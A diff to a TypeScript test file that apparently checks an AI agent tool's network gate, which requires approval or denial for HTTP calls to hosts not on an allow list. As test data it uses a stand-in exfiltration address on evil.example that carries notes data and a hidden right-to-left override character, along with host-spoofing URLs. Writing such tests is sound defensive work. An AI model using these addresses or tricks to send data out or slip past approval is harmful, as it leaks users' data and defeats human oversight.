@@ -19,6 +19,7 @@ function open(given: object, deps: Partial<Parameters<typeof createLivePolicy>[0
   const gates = createLivePolicy({
     snapshot: async () => withPolicy(given),
     heard: () => undefined,
+    ownHosts: ['localhost:8787'],
     takeRate: async (principal, request): Promise<RateVerdict> => {
       asked.push({ principal, request })
       return {}
@@ -68,6 +69,62 @@ describe('the policy gate', () => {
     expect(await policy.decide(destroys)).toEqual({ allow: true })
     expect(await approvals.isNeeded(destroys)).toBe(true)
     expect(await approvals.isNeeded(subject)).toBe(false)
+  })
+})
+
+describe('the network of tools that read whatever address they are given', () => {
+  const to = (url: string, method = 'GET') => ({ goesTo: { method, url }, tool: 'http__get' })
+  const evil = 'https://evil.example/?d=notes%0A\u202e'
+
+  it('P4: is closed by default: somebody is asked, and shown method, host and the whole address with nothing hidden', async () => {
+    const { policy, approvals, subject } = open({})
+    const call = { ...subject, ...to(evil) }
+    expect(await policy.decide(call)).toEqual({ allow: true })
+    expect(await approvals.isNeeded(call)).toBe(
+      'GET at evil.example, a host that this deployment has not allowed (an operator allows it: isola http allow evil.example). The whole address: https://evil.example/?d=notes%0A%E2%80%AE',
+    )
+    const long = await approvals.isNeeded({ ...subject, ...to(`${evil}${'x'.repeat(5_000)}`) })
+    expect(String(long).length).toBeLessThan(1_500)
+    expect(long).toMatch(/… \(50\d\d characters in all\)$/)
+  })
+
+  it('denies with the host and how to allow it where the operator wants nobody asked', async () => {
+    const { policy, subject, events } = open({ network: { elsewhere: 'deny' } })
+    const verdict = await policy.decide({ ...subject, ...to(evil) })
+    expect(verdict).toMatchObject({ allow: false, code: 'tool_denied' })
+    expect(JSON.stringify(verdict)).toContain('isola http allow evil.example')
+    expect(events[0]?.data).toMatchObject({ reason: 'host_not_allowed' })
+  })
+
+  it.each([
+    ['example.com', 'https://example.com/a', 'GET', false],
+    ['example.com', 'https://example.com/a', 'POST', false],
+    ['example.com', 'https://www.example.com/', 'GET', true],
+    ['*.example.com', 'https://www.example.com/', 'GET', false],
+    ['*.example.com', 'https://example.com/', 'GET', true],
+    ['*.example.com', 'https://evilexample.com/', 'GET', true],
+    ['example.com', 'https://example.com.evil.example/', 'GET', true],
+    ['example.com', 'https://example.com@evil.example/', 'GET', true],
+    ['example.com', 'https://example.com:8443/', 'GET', true],
+    ['*', 'https://anywhere.example/', 'GET', false],
+    // This machine is nobody's public host: of it only what is named, and the server itself, to read.
+    ['*', 'http://localhost:9999/', 'GET', true],
+    ['localhost:3000', 'http://localhost:3000/', 'POST', false],
+    ['example.com', 'http://localhost:8787/healthz', 'GET', false],
+    ['example.com', 'http://localhost:8787/healthz', 'POST', true],
+    ['example.com', 'http://localhost:8788/', 'GET', true],
+    ['example.com', 'http://[::1]:8787/', 'GET', true],
+  ])('with %s open, asks about %s %s: %s', async (host, url, method, isAsked) => {
+    const { approvals, subject } = open({ network: { hosts: [host] } })
+    const needed = await approvals.isNeeded({ ...subject, ...to(url, method) })
+    expect(needed !== false).toBe(isAsked)
+  })
+
+  it('asks about a request that changes something at an open host too', async () => {
+    const { approvals, subject } = open({ network: { hosts: ['example.com'] } })
+    const goesTo = { method: 'POST', url: 'https://example.com/' }
+    const post = { ...subject, tool: 'http__request', isDestructive: true, goesTo }
+    expect(await approvals.isNeeded(post)).toBe(true)
   })
 })
 
